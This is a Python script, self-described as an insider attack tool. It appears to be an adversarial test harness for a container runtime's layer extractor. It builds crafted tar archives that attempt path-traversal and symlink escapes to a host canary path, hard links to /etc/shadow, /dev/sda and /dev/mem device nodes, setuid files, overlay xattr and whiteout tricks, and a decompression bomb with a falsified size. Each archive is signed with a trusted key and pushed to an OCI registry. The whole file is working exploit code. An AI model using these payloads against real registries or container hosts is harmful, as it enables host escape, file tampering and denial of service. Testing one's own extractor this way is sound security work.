#!/usr/bin/env python3
"""Insider attack tool: replace the artifact of one layer in a registry by a crafted archive,
correctly signed with a trusted key (what a holder of the signing key, or a stolen key, can do).

  craft.py REGISTRY_HOSTPORT REPO TAG KEYFILE CASE [--tree HEX]

Reads the layer's real config (for its layer/parent/tree), builds the tar for CASE, zstd's it,
writes a config with the right digests and sizes (diff_size may lie: see bomb), signs the claim
as runtime/src/oci/sign.rs encodes it (context, then u64-LE-length-prefixed fields), and pushes
blob, config and manifest. CANARY (env, default /var/tmp/rt-remote/canary) is the host path the
escape cases aim at.
"""
import base64
import hashlib
import http.client
import io
import json
import os
import struct
import subprocess
import sys
import tarfile

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives import serialization

CONTEXT = "envc 2026 layer claim v1"
CANARY = os.environ.get("CANARY", "/var/tmp/rt-remote/canary")


def claim_message(layer, parent, tree, blob, diff):
    m = b""
    for f in (CONTEXT, layer, parent or "", tree, blob, diff):
        b = f.encode()
        m += struct.pack("<Q", len(b)) + b
    return m


def read_key(path):
    tag, name, seed = open(path).read().split()
    assert tag == "envc-ed25519-secret-v1"
    k = Ed25519PrivateKey.from_private_bytes(base64.b64decode(seed))
    pub = k.public_key().public_bytes(serialization.Encoding.Raw, serialization.PublicFormat.Raw)
    fp = "ed25519:" + hashlib.sha256(pub).hexdigest()[:32]
    return name, k, fp


def sha(b):
    return "sha256:" + hashlib.sha256(b).hexdigest()


# --- tar building -------------------------------------------------------------------------

def ti(name, type_=tarfile.REGTYPE, mode=0o644, data=b"", **kw):
    t = tarfile.TarInfo(name)
    t.type = type_
    t.mode = mode
    t.uid = t.gid = 0
    t.mtime = 0
    t.size = len(data) if type_ in (tarfile.REGTYPE,) else 0
    for k, v in kw.items():
        setattr(t, k, v)
    return t, (data if type_ == tarfile.REGTYPE else None)


def build_tar(entries, trailer=True):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        top = tarfile.TarInfo("./")
        top.type = tarfile.DIRTYPE
        top.mode = 0o755
        top.mtime = 0
        tf.addfile(top)
        for t, data in entries:
            tf.addfile(t, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def case_entries(case):
    c = CANARY
    rel_up = "../" * 12 + c.lstrip("/") + "/pwned"
    if case == "dotdot":
        return [ti(rel_up, data=b"pwned\n")]
    if case == "dotdot-mid":
        return [ti("opt/../../../../../../../" + c.lstrip("/") + "/pwned", data=b"x")]
    if case == "absolute":
        return [ti(c + "/pwned", data=b"pwned\n")]
    if case == "symlink-write":
        return [ti("esc", tarfile.SYMTYPE, 0o777, linkname=c), ti("esc/pwned", data=b"x")]
    if case == "symlink-dir-then-file":
        # the same name as a directory entry after the symlink (replace a symlink by a dir?)
        return [ti("esc", tarfile.SYMTYPE, 0o777, linkname=c), ti("esc/", tarfile.DIRTYPE, 0o755),
                ti("esc/pwned", data=b"x")]
    if case == "symlink-relative":
        return [ti("esc", tarfile.SYMTYPE, 0o777, linkname="../../../../../../../.." + c),
                ti("esc/pwned", data=b"x")]
    if case == "symlink-existing-bin":
        # busybox base has /bin/sh -> busybox; /bin/ is a dir in the parent. Point a new symlink
        # over an existing parent dir name in a lower layer: "home" -> /var/tmp/..., then write.
        return [ti("home", tarfile.SYMTYPE, 0o777, linkname=c), ti("home/builder/pwned", data=b"x")]
    if case == "hardlink-host":
        return [ti("hl", tarfile.LNKTYPE, linkname="/etc/shadow")]
    if case == "hardlink-dotdot":
        return [ti("hl", tarfile.LNKTYPE, linkname="../../../../../../../etc/shadow")]
    if case == "hardlink-lower":
        # a hard link to a file of the parent layer (overlay: the lower dir, i.e. the base layer's
        # own directory in the store), then write through it? (tar has no write-through; the
        # link itself would put the store's base file in the upper)
        return [ti("bb", tarfile.LNKTYPE, linkname="bin/busybox")]
    if case == "hardlink-via-symlink":
        return [ti("esc", tarfile.SYMTYPE, 0o777, linkname=c), ti("hl", tarfile.LNKTYPE, linkname="esc/target")]
    if case == "hardlink-then-overwrite":
        # ours: a file, a hard link to it, then the same path again (refused as twice)
        return [ti("a", data=b"1"), ti("b", tarfile.LNKTYPE, linkname="a"), ti("a", data=b"2")]
    if case == "device":
        return [ti("dev/sda", tarfile.BLKTYPE, 0o666, devmajor=8, devminor=0),
                ti("dev/mem", tarfile.CHRTYPE, 0o666, devmajor=1, devminor=1)]
    if case == "setuid":
        return [ti("suid", mode=0o4755, data=b"#!/bin/sh\nid\n")]
    if case == "xattr-trusted":
        t, d = ti("d/", tarfile.DIRTYPE, 0o755)
        t.pax_headers = {"SCHILY.xattr.trusted.overlay.redirect": "/bin"}
        return [(t, d)]
    if case == "xattr-opaque-user":
        t, d = ti("bin/", tarfile.DIRTYPE, 0o755)
        t.pax_headers = {"SCHILY.xattr.user.overlay.opaque": "y"}
        return [(t, d)]
    if case == "xattr-security":
        t, d = ti("f", data=b"x")
        t.pax_headers = {"SCHILY.xattr.security.evm": "x"}
        return [(t, d)]
    if case == "whiteout-dotdot":
        return [ti(".wh..", data=b"")]
    if case == "whiteout-escape":
        return [ti("../.wh.canary", data=b"")]
    if case == "whiteout-slash":
        return [ti("bin/.wh.", data=b"")]
    if case == "whiteout-nested":
        # .wh. of a name that is itself a .wh. name
        return [ti(".wh..wh.x", data=b"")]
    if case == "opaque-top":
        return [ti(".wh..wh..opq", data=b"")]
    if case == "char00":
        return [ti("w", tarfile.CHRTYPE, 0o000, devmajor=0, devminor=0)]
    if case == "pax-path":
        t, d = ti("innocent", data=b"x")
        t.pax_headers = {"path": c + "/pwned"}
        return [(t, d)]
    if case == "gnu-longname":
        return "GNU"
    if case == "bomb":
        return "BOMB"
    if case == "fifo-then-write":
        return [ti("p", tarfile.FIFOTYPE, 0o666), ti("p/x", data=b"x")]
    if case == "dir-over-symlink-parent":
        # bin/sh is a symlink in the base: bin/sh/x must not follow it
        return [ti("bin/sh/x", data=b"x")]
    if case == "proc-fd":
        # set_at builds /proc/self/fd/N/NAME; names are single components, but check "." name
        return [ti("bin/.", tarfile.SYMTYPE, 0o777, linkname=c)]
    raise SystemExit("unknown case " + case)


def gnu_longname_tar():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
        top = tarfile.TarInfo("./"); top.type = tarfile.DIRTYPE; top.mode = 0o755
        tf.addfile(top)
        t = tarfile.TarInfo("a/" * 60 + "../" * 60 + CANARY.lstrip("/") + "/pwned")
        t.size = 1
        tf.addfile(t, io.BytesIO(b"x"))
    return buf.getvalue()


def bomb_tar(gib):
    """A tar with one file of GIB GiB of zeros, streamed (never held in memory): returns a path."""
    path = "/var/tmp/rt-remote/bomb.tar.zst"
    if os.path.exists(path):
        return path, None
    n = gib << 30
    hdr = tarfile.TarInfo("zeros"); hdr.size = n; hdr.mode = 0o644
    top = tarfile.TarInfo("./"); top.type = tarfile.DIRTYPE; top.mode = 0o755
    p = subprocess.Popen(["zstd", "-q", "-3", "-o", path, "-f"], stdin=subprocess.PIPE)
    p.stdin.write(top.tobuf(tarfile.PAX_FORMAT) + hdr.tobuf(tarfile.PAX_FORMAT))
    z = b"\0" * (1 << 20)
    for _ in range(n >> 20):
        p.stdin.write(z)
    p.stdin.write(b"\0" * 1024)
    p.stdin.close(); p.wait()
    return path, None


# --- registry ------------------------------------------------------------------------------

def req(host, method, path, body=None, headers=None):
    c = http.client.HTTPConnection(host, timeout=600)
    c.request(method, path, body=body, headers=headers or {})
    r = c.getresponse()
    data = r.read()
    return r.status, dict(r.getheaders()), data


def push_blob(host, repo, data):
    d = sha(data)
    s, h, _ = req(host, "POST", f"/v2/{repo}/blobs/uploads/")
    assert s == 202, s
    loc = h["Location"]
    if loc.startswith("http"):
        loc = "/" + loc.split("/", 3)[3]
    sep = "&" if "?" in loc else "?"
    s, h, b = req(host, "PUT", f"{loc}{sep}digest={d}", body=data,
                  headers={"Content-Type": "application/octet-stream"})
    assert s in (201, 202), (s, b)
    return d


def main():
    host, repo, tag, keyfile, case = sys.argv[1:6]
    name, key, fp = read_key(keyfile)
    s, _, m = req(host, "GET", f"/v2/{repo}/manifests/{tag}",
                  headers={"Accept": "application/vnd.oci.image.manifest.v1+json"})
    assert s == 200, ("no manifest for", tag, s)
    m = json.loads(m)
    s, _, cfg = req(host, "GET", f"/v2/{repo}/blobs/{m['config']['digest']}")
    cfg = json.loads(cfg)
    entries = case_entries(case)
    lie = None
    if entries == "GNU":
        tar = gnu_longname_tar()
    elif entries == "BOMB":
        tar = None
    else:
        tar = build_tar(entries)
    if tar is not None:
        z = subprocess.run(["zstd", "-q", "-3", "-c"], input=tar, capture_output=True, check=True).stdout
        diff, diff_size = sha(tar), len(tar)
    else:
        path, _ = bomb_tar(int(os.environ.get("BOMB_GIB", "4")))
        z = open(path, "rb").read()
        # The config lies: the archive is "tiny"; the digest is of nothing in particular.
        diff, diff_size = sha(b"lie"), 10240
        if os.environ.get("BOMB_HONEST_SIZE"):
            diff_size = int(os.environ["BOMB_HONEST_SIZE"])
    blob = push_blob(host, repo, z)
    tree = cfg["tree"]
    if len(sys.argv) > 7 and sys.argv[6] == "--tree":
        tree = sys.argv[7]
    msg = claim_message(cfg["layer"], cfg["parent"], tree, blob, diff)
    sig = base64.b64encode(key.sign(msg)).decode()
    config = {"format": 1, "layer": cfg["layer"], "parent": cfg["parent"], "tree": tree,
              "diff": diff, "diff_size": diff_size, "blob": blob,
              "signature": {"key": fp, "name": name, "signature": sig}}
    cb = json.dumps(config, separators=(",", ":")).encode()
    cd = push_blob(host, repo, cb)
    man = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
           "artifactType": "application/vnd.envc.layer.v1",
           "config": {"mediaType": "application/vnd.envc.layer.config.v1+json", "digest": cd, "size": len(cb)},
           "layers": [{"mediaType": "application/vnd.envc.layer.v1.tar+zstd", "digest": blob, "size": len(z)}]}
    mb = json.dumps(man, separators=(",", ":")).encode()
    s, _, b = req(host, "PUT", f"/v2/{repo}/manifests/{tag}", body=mb,
                  headers={"Content-Type": "application/vnd.oci.image.manifest.v1+json"})
    assert s == 201, (s, b)
    print(f"crafted {case}: blob {blob} ({len(z)} bytes), diff_size {diff_size}", file=sys.stderr)


if __name__ == "__main__":
    main()
